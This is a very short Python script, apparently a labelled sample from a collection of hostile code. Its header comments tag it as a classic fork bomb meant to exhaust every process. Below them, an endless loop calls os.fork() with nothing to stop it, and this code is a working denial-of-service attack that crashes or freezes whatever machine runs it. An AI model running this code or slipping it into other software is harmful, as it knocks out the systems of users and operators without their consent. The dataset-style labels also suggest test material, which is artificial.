# aim: every process
# kind: exhaust
# source: fork bomb classic
# ends: crash|threw
import os
while True:
    os.fork()
